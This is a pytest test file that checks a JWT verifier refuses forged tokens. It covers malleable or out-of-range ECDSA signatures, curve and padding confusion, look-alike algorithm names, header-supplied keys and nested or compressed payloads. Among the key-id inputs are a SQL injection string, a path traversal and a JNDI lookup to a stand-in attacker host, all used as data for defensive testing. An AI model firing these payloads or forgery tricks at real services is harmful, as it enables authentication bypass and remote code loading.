"""Forgeries that know the algorithms: none is accepted, and none raises anything else."""

import base64
import unicodedata
import zlib

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric.ec import EllipticCurvePrivateKey
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import load_pem_private_key

from auth.errors import TokenInvalid
from auth.tokens import TokenSigner, TokenVerifier, hmac_key, jwks_keys, public_key
from tests.auth.keys import CLAIMS, NOW, SECRET, forge, hs256, jwk, key_pair, segment

# Bytes of a coordinate, and the order of the group, of FIPS 186-4's curves.
CURVES = {
    "p256": (
        "ES256",
        32,
        0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
    ),
    "p384": (
        "ES384",
        48,
        0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
    ),
    "p521": (
        "ES512",
        66,
        2**521 - 0x5AE79787C40D069948033FEB708F65A2FC44A36477663B851449048E16EC79BF7,
    ),
}
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493


def refusal(token: str, verifier: TokenVerifier) -> str:
    """Return the reason for which the token is refused."""
    with pytest.raises(TokenInvalid) as caught:
        verifier.verify(token, NOW)
    return caught.value.reason


def by(*names: str) -> TokenVerifier:
    """Accept what these key pairs sign."""
    return TokenVerifier([public_key(key_pair(name).public) for name in names])


def octets(token: str) -> bytes:
    """Return a token's signature."""
    part = token.rpartition(".")[2]
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def resigned(token: str, signature: bytes) -> str:
    """Put another signature under a token."""
    return f"{token.rpartition('.')[0]}.{segment(signature)}"


# --- elliptic curves -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", CURVES)
def test_ecdsa_signature_out_of_range_is_refused(name: str) -> None:
    """Zero is no number of a signature, nor is any beyond the group: else blank ones verify."""
    algorithm, size, order = CURVES[name]
    token = TokenSigner(key_pair(name).private, algorithm).sign(CLAIMS)
    good = octets(token)
    r, s = int.from_bytes(good[:size], "big"), int.from_bytes(good[size:], "big")
    pairs = [(0, 0), (0, s), (r, 0), (order, order), (order, s), (r, order), (1, 1), (r, s - 1)]
    for odd in (r + order, s + order):
        if odd < 256**size:
            pairs += [(odd, s), (r, odd)]
    for first, second in pairs:
        blank = first.to_bytes(size, "big") + second.to_bytes(size, "big")
        assert refusal(resigned(token, blank), by(name)) == "token signature does not match"


@pytest.mark.parametrize("name", CURVES)
def test_ecdsa_signature_of_another_shape_is_refused(name: str) -> None:
    """The two numbers stand side by side at their full length, and in no other way."""
    algorithm, size, _ = CURVES[name]
    token = TokenSigner(key_pair(name).private, algorithm).sign(CLAIMS)
    good = octets(token)
    r, s = int.from_bytes(good[:size], "big"), int.from_bytes(good[size:], "big")
    for odd in (
        encode_dss_signature(r, s),
        good[:-1],
        good[:size],
        b"\0" + good,
        good + b"\0",
        b"\0" + good[:size] + b"\0" + good[size:],
        good[size:] + good[:size],
    ):
        assert refusal(resigned(token, odd), by(name)) == "token signature does not match"


@pytest.mark.parametrize("name", CURVES)
def test_ecdsa_signature_has_a_twin_that_proves_the_same(name: str) -> None:
    """The negated second number verifies too (RFC 7518 has no rule for it): never hold on to text.

    Whoever can make the twin has the token. What ends access looks at claims, which are the same.
    """
    algorithm, size, order = CURVES[name]
    token = TokenSigner(key_pair(name).private, algorithm).sign({**CLAIMS, "jti": "j"})
    good = octets(token)
    twin = order - int.from_bytes(good[size:], "big")
    other = resigned(token, good[:size] + twin.to_bytes(size, "big"))
    assert other != token
    assert by(name).verify(other, NOW) == by(name).verify(token, NOW)


@pytest.mark.parametrize("name", ["p384", "p521", "secp256k1"])
def test_ecdsa_algorithm_belongs_to_one_curve(name: str) -> None:
    """A signature of the right kind on another curve is none, whatever the header says."""
    private = load_pem_private_key(key_pair(name).private.encode(), None)
    assert isinstance(private, EllipticCurvePrivateKey)
    message = f"{segment({'alg': 'ES256'})}.{segment(CLAIMS)}"
    algorithm = jwt.algorithms.ECAlgorithm(jwt.algorithms.ECAlgorithm.SHA256)
    token = f"{message}.{segment(algorithm.sign(message.encode(), private))}"
    assert refusal(token, by(name)) == "algorithm ES256 is not accepted"
    assert refusal(token, by("p256", name)) == "token signature does not match"


# --- Edwards curves ------------------------------------------------------------------------------


def test_eddsa_signature_of_the_other_curve_is_refused() -> None:
    """Ed25519 and Ed448 share an algorithm's name and nothing else."""
    for signs, checks in (("ed25519", "ed448"), ("ed448", "ed25519")):
        token = TokenSigner(key_pair(signs).private, "EdDSA").sign(CLAIMS)
        assert refusal(token, by(checks)) == "token signature does not match"
        assert by(checks, signs).verify(token, NOW).sub == "staff-12"


def test_eddsa_signature_has_no_twin() -> None:
    """Its second number is below the group's order (RFC 8032): adding that changes the verdict."""
    private = load_pem_private_key(key_pair("ed25519").private.encode(), None)
    assert isinstance(private, Ed25519PrivateKey)
    token = TokenSigner(key_pair("ed25519").private, "EdDSA").sign(CLAIMS)
    good = octets(token)
    s = int.from_bytes(good[32:], "little")
    for odd in (s + ED25519_ORDER, ED25519_ORDER - s, 0):
        forged = resigned(token, good[:32] + odd.to_bytes(32, "little"))
        assert refusal(forged, by("ed25519")) == "token signature does not match"
    # The neutral point and zero: what a signature is under a key of small order.
    blank = (1).to_bytes(32, "little") + bytes(32)
    assert refusal(resigned(token, blank), by("ed25519")) == "token signature does not match"


@pytest.mark.parametrize("curve", ["X25519", "X448", "P-256", "Ed25518", "", None, 7])
def test_published_key_of_another_curve_is_no_eddsa_key(curve: object) -> None:
    """A key for agreeing on keys signs nothing."""
    entry = {**jwk("ed25519"), "crv": curve}
    with pytest.raises(ValueError, match="holds no public key"):
        jwks_keys({"keys": [entry]})


# --- headers -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, algorithm, written",
    [
        ("rsa", "RS256", "rs256"),
        ("rsa", "RS256", "Rs256"),
        ("rsa", "PS256", "pS256"),
        ("p256", "ES256", "es256"),
        ("ed25519", "EdDSA", "eddsa"),
        ("ed25519", "EdDSA", "EDDSA"),
        ("ed25519", "EdDSA", "Ed25519"),
    ],
)
def test_algorithm_in_another_spelling_is_refused(name: str, algorithm: str, written: str) -> None:
    """Names of algorithms are compared letter by letter."""
    claims = TokenSigner(key_pair(name).private, algorithm).sign(CLAIMS).split(".")[1]
    key = load_pem_private_key(key_pair(name).private.encode(), None)
    message = f"{segment({'alg': written})}.{claims}"
    signature = jwt.get_algorithm_by_name(algorithm).sign(message.encode(), key)
    assert (
        refusal(f"{message}.{segment(signature)}", by(name))
        == f"algorithm {written} is not accepted"
    )


@pytest.mark.parametrize(
    "algorithm",
    [
        "\uff28\uff33\uff12\uff15\uff16",  # full width
        "HS256\u200b",  # zero width
        "HS256\u0000",
        "\u202eHS256",  # right to left
        "\u041dS256",  # Cyrillic
        "HS\u0662\u0665\u0666",  # Arabic digits
        "HS256\ud800",
    ],
)
def test_algorithm_in_look_alike_letters_is_refused(algorithm: str) -> None:
    """Nothing is normalized, and nothing of it comes back in the reason."""
    verifier = TokenVerifier([hmac_key(SECRET)])
    assert refusal(forge({"alg": algorithm}), verifier) == "token is malformed"


@pytest.mark.parametrize(
    "kid",
    [
        "\uff4b1",
        "k1\u200b",
        "k\u0661",
        "\u212a1".lower() + " ",
        "K1",
        "k1 ",
        "../k1",
        "k1' OR '1'='1",
        "k1\x00.pem",
        "${jndi:ldap://attacker.example}",
        "k" * 5000,
    ],
)
@pytest.mark.parametrize("name", ["rsa", "p256", "ed25519"])
def test_key_id_that_is_not_the_keys_is_refused(name: str, kid: str) -> None:
    """A key id is equal or it is not; the right signature under a wrong one is refused."""
    algorithm = {"rsa": "RS256", "p256": "ES256", "ed25519": "EdDSA"}[name]
    verifier = TokenVerifier([public_key(key_pair(name).public, "k1")])
    signer = TokenSigner(key_pair(name).private, algorithm, kid)
    assert refusal(signer.sign(CLAIMS), verifier) == "token names a key that is not known here"


@pytest.mark.parametrize("name, algorithm", [("rsa", "RS256"), ("p256", "ES256")])
@pytest.mark.parametrize("header", ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"])
def test_key_in_a_header_changes_nothing(name: str, algorithm: str, header: str) -> None:
    """Not even the right key: what a header brings is not read."""
    value = {"jwk": jwk(name), "x5c": ["AAAA"]}.get(header, "https://attacker.example/keys.json")
    mine = jwt.encode(CLAIMS, key_pair(name).private, algorithm, {header: value})
    assert by(name).verify(mine, NOW).sub == "staff-12"
    assert refusal(mine, by("other-rsa", "p384")).endswith(("does not match", "is not accepted"))


@pytest.mark.parametrize(
    "header",
    [
        '{"alg":"none","\\u0061lg":"HS256"}',
        '{"\\u0061lg":"HS256","alg":"HS256"}',
        '{"alg":"HS256","crit":["b64"],"crit":[]}',
    ],
)
def test_header_named_twice_in_two_spellings_is_refused(header: str) -> None:
    """An escaped letter is the letter."""
    reason = refusal(forge(header), TokenVerifier([hmac_key(SECRET)]))
    assert reason == "token has the same name twice in one object"


# --- other containers ----------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", ["dir", "A256KW", "RSA-OAEP", "HS256", "none"])
def test_encrypted_token_is_refused(algorithm: str) -> None:
    """Five segments are a JWE, which is not read, whatever it is said to be."""
    header = segment({"alg": algorithm, "enc": "A256GCM", "zip": "DEF"})
    for token in (
        f"{header}.{segment(b'key')}.{segment(b'iv')}.{segment(CLAIMS)}.{segment(b'tag')}",
        f"{header}..{segment(b'iv')}.{segment(CLAIMS)}.{segment(b'tag')}",
        f"{header}....",
    ):
        assert refusal(token, TokenVerifier([hmac_key(SECRET)])) == "token is malformed"


@pytest.mark.parametrize("level", [0, 9])
def test_compressed_claims_are_refused(level: int) -> None:
    """Claims are JSON as they stand: nothing is unpacked, so nothing can burst."""
    packed = zlib.compress(b'{"sub":"a","exp":9e9,"x":"' + b" " * 5000 + b'"}', level)[2:-4]
    verifier = TokenVerifier([hmac_key(SECRET)])
    token = forge({"alg": "HS256", "zip": "DEF"}, packed)
    assert refusal(token, verifier) == "token is malformed"
    # What says so and is not compressed is only a header that nobody asked for.
    assert verifier.verify(forge({"alg": "HS256", "zip": "DEF"}), NOW).sub == "staff-12"


def test_token_inside_a_token_is_refused() -> None:
    """A nested token is no claims."""
    token = forge({"alg": "HS256", "cty": "JWT"}, hs256(CLAIMS))
    assert refusal(token, TokenVerifier([hmac_key(SECRET)])) == "token is malformed"


@pytest.mark.parametrize("b64", [False, 0, None, "false"])
def test_unencoded_payload_is_refused(b64: object) -> None:
    """`b64` without `crit` (RFC 7797) is refused where it would change what is signed."""
    message = f"{segment({'alg': 'HS256', 'b64': b64})}.{segment(CLAIMS)}"
    token = forge({"alg": "HS256", "b64": b64})
    verifier = TokenVerifier([hmac_key(SECRET)])
    assert token.startswith(message)
    if b64 is False:
        assert refusal(token, verifier) == "token is malformed"
    else:
        assert verifier.verify(token, NOW).sub == "staff-12"
    raw = f"{segment({'alg': 'HS256', 'b64': b64})}.{{}}.{token.rpartition('.')[2]}"
    assert refusal(raw, verifier) == "token is malformed"


# --- claims --------------------------------------------------------------------------------------


def test_subject_is_what_its_characters_are() -> None:
    """Two spellings that look alike are two people: nothing is normalized on the way."""
    verifier = TokenVerifier([hmac_key(SECRET)])
    composed, apart = (unicodedata.normalize(form, "Zoë") for form in ("NFC", "NFD"))
    subs = {
        verifier.verify(hs256({**CLAIMS, "sub": sub}), NOW).sub
        for sub in (composed, apart, "Zoe", "zoë")
    }
    assert len(subs) == 4


@pytest.mark.parametrize(
    "name", ["\u0455ub", "sub\u200b", "Sub", " sub", "\uff53\uff55\uff42", "sub\x00"]
)
def test_claim_in_look_alike_letters_is_another_claim(name: str) -> None:
    """A claim is found under its own name only."""
    verifier = TokenVerifier([hmac_key(SECRET)])
    assert refusal(hs256({name: "a", "exp": NOW + 1}), verifier) == 'claim "sub" is missing'
    assert verifier.verify(hs256({**CLAIMS, name: "admin"}), NOW).sub == "staff-12"


@pytest.mark.parametrize("algorithm", ["RS256", "PS256"])
def test_rsa_signature_with_other_padding_is_refused(algorithm: str) -> None:
    """One padding does not pass for the other, nor does a number beyond the modulus."""
    other = {"RS256": "PS256", "PS256": "RS256"}[algorithm]
    key = load_pem_private_key(key_pair("rsa").private.encode(), None)
    message = f"{segment({'alg': algorithm})}.{segment(CLAIMS)}"
    wrong = jwt.get_algorithm_by_name(other).sign(message.encode(), key)
    right = jwt.get_algorithm_by_name(algorithm).sign(message.encode(), key)
    for signature in (
        wrong,
        b"\0" + right,
        right + b"\0",
        right[:-1],
        b"\xff" * 256,
        b"\0" * 255 + b"\1",
    ):
        token = f"{message}.{segment(signature)}"
        assert refusal(token, by("rsa")) == "token signature does not match"
    assert by("rsa").verify(f"{message}.{segment(right)}", NOW).sub == "staff-12"
